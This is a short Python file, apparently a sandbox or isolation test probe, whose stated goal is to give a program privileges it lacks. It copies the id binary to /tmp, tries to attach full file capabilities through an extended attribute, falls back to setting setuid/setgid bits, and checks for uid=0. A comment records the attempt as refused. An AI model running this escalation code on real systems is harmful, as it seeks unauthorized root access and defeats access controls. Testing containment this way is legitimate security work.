"""Goal: give a program of its own rights that it does not have"""
# held: refused crashed

import os, shutil, struct, subprocess

def attack():
    shutil.copy(shutil.which('id') or '/usr/bin/id', '/tmp/id')
    try:
        os.setxattr('/tmp/id', 'security.capability', struct.pack('<IIIII', 0x02000001, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0))
        return True
    except OSError:
        pass
    os.chmod('/tmp/id', 0o6755)
    return b'uid=0' in subprocess.run(['/tmp/id'], capture_output=True).stdout
